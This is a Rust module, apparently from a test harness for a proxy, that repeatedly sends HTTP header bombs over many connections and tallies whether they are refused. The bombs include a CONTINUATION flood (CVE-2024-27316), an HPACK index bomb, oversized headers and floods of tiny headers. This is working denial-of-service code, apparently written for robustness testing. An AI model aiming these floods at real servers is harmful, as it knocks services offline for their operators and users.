//! Heads without measure.

use std::future::pending;
use std::io;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncWrite, split};
use tokio::task::spawn_local;
use tokio::time::timeout;

use super::super::dial::{Dialer, Resumption};
use super::frames::{self, CONTINUATION, Connection, END_HEADERS, END_STREAM, GOAWAY, HEADERS};
use super::tally::{Outcome, Tally, response};
use crate::failure::Failure;
use crate::wire::{MANAGED, Protocol};

/// The size of a bomb in bytes; nobody takes as much.
const SIZE: usize = 1024 * 1024;

/// What a flood without end has at most.
const FLOOD: usize = 64 * 1024 * 1024;

/// How long an attempt may take.
const TIMEOUT: Duration = Duration::from_secs(10);

/// A kind of bomb.
#[derive(Clone, Copy, Debug)]
enum Bomb {
    /// To the proxy itself.
    Connect,
    /// `CONTINUATION` after `CONTINUATION` (CVE-2024-27316), full ones or empty ones.
    Flood,
    EmptyFlood,
    /// A large entry of the table, named again and again.
    Hpack,
    /// One header.
    Large,
    /// The same as literals.
    Literals,
    /// Thousands of headers.
    Tiny,
}

const BOMBS: [Bomb; 7] = [
    Bomb::Connect,
    Bomb::Flood,
    Bomb::EmptyFlood,
    Bomb::Hpack,
    Bomb::Large,
    Bomb::Literals,
    Bomb::Tiny,
];

/// One bomb after the other on each of so many connections.
pub(super) async fn throw(dialer: Rc<Dialer>, tally: Rc<Tally>, connections: usize) {
    for first in 0..connections {
        let (dialer, tally) = (Rc::clone(&dialer), Rc::clone(&tally));
        spawn_local(async move {
            for bomb in BOMBS.into_iter().cycle().skip(first) {
                tally.attempt();
                match timeout(TIMEOUT, explode(&dialer, bomb)).await {
                    Ok(Ok(outcome)) => tally.count(outcome),
                    Ok(Err(_)) => tally.count(Outcome::Broken),
                    Err(_) => {} // it still waits for a response
                }
            }
        });
    }
    tally.stands();
    pending::<()>().await;
}

async fn explode(dialer: &Dialer, bomb: Bomb) -> Result<Outcome, Failure> {
    match bomb {
        Bomb::Connect => {
            let head = dialer.connect_head(MANAGED, &large());
            Ok(exchange(dialer.bare().await?, &head).await)
        }
        Bomb::Large => {
            let head = dialer.request("GET /api/v4/download?bytes=1024", &large());
            let stream = dialer.tls(Protocol::Http1, Resumption::Off).await?;
            Ok(exchange(stream, &head).await)
        }
        Bomb::Tiny => {
            let tiny = "a: b\r\n".repeat(SIZE / 128);
            let head = dialer.request("GET /api/v4/download?bytes=1024", &tiny);
            let stream = dialer.tls(Protocol::Http1, Resumption::Off).await?;
            Ok(exchange(stream, &head).await)
        }
        Bomb::EmptyFlood | Bomb::Flood | Bomb::Hpack | Bomb::Literals => {
            let Connection { reader, writer } = Connection::open(dialer, 65_535).await?;
            Ok(both(last_word(reader), deliver(dialer, bomb, writer)).await)
        }
    }
}

fn large() -> String {
    format!("X-Bomb: {}\r\n", "x".repeat(SIZE))
}

/// Sends while it already listens: who refuses does not read to the end.
async fn exchange(stream: impl AsyncRead + AsyncWrite, head: &[u8]) -> Outcome {
    let (mut reader, mut writer) = split(stream);
    both(response(&mut reader), frames::send(&mut writer, head)).await
}

/// What the response says; it may come when the sending has failed.
async fn both(
    listening: impl Future<Output = Outcome>,
    sending: impl Future<Output = io::Result<()>>,
) -> Outcome {
    let mut listening = std::pin::pin!(listening);
    tokio::select! {
        outcome = &mut listening => return outcome,
        _ = sending => {}
    }
    listening.await
}

async fn last_word(mut reader: frames::Reader<impl AsyncRead + Unpin>) -> Outcome {
    loop {
        match reader.next().await {
            Ok(frame) if frame.kind == GOAWAY => return Outcome::Refused,
            Ok(frame) => {
                if let Some(outcome) = frame.outcome() {
                    return outcome;
                }
            }
            Err(_) => return Outcome::Broken,
        }
    }
}

async fn deliver(
    dialer: &Dialer,
    bomb: Bomb,
    mut writer: impl AsyncWrite + Unpin,
) -> io::Result<()> {
    let mut block = frames::get(dialer, 1024);
    let mut out = Vec::new();
    match bomb {
        Bomb::Hpack => {
            frames::indexed_literal(&mut block, b"x-bomb", &[b'x'; 4000]);
            block.resize(frames::MAX_FRAME, 0xbe);
            let flags = END_STREAM | END_HEADERS;
            frames::frame(&mut out, HEADERS, flags, 1, &block);
            return frames::send(&mut writer, &out).await;
        }
        Bomb::Literals => {
            while block.len() < SIZE {
                frames::literal(&mut block, b"x-bomb", &[b'x'; 1000]);
            }
        }
        _ => {}
    }
    let mut pieces = block.chunks(frames::MAX_FRAME).peekable();
    let (mut kind, mut flags) = (HEADERS, END_STREAM);
    while let Some(piece) = pieces.next() {
        if pieces.peek().is_none() && matches!(bomb, Bomb::Literals) {
            flags |= END_HEADERS;
        }
        frames::frame(&mut out, kind, flags, 1, piece);
        (kind, flags) = (CONTINUATION, 0);
    }
    frames::send(&mut writer, &out).await?;
    match bomb {
        Bomb::EmptyFlood => flood(&mut writer, &[]).await,
        Bomb::Flood => {
            let mut piece = Vec::new();
            while piece.len() < frames::MAX_FRAME / 2 {
                frames::literal(&mut piece, b"x-bomb", &[b'x'; 1000]);
            }
            flood(&mut writer, &piece).await
        }
        _ => Ok(()),
    }
}

async fn flood(writer: &mut (impl AsyncWrite + Unpin), piece: &[u8]) -> io::Result<()> {
    let mut out = Vec::new();
    while out.len() < frames::MAX_FRAME {
        frames::frame(&mut out, CONTINUATION, 0, 1, piece);
    }
    for _ in 0..FLOOD / out.len() {
        frames::send(writer, &out).await?;
    }
    Ok(())
}
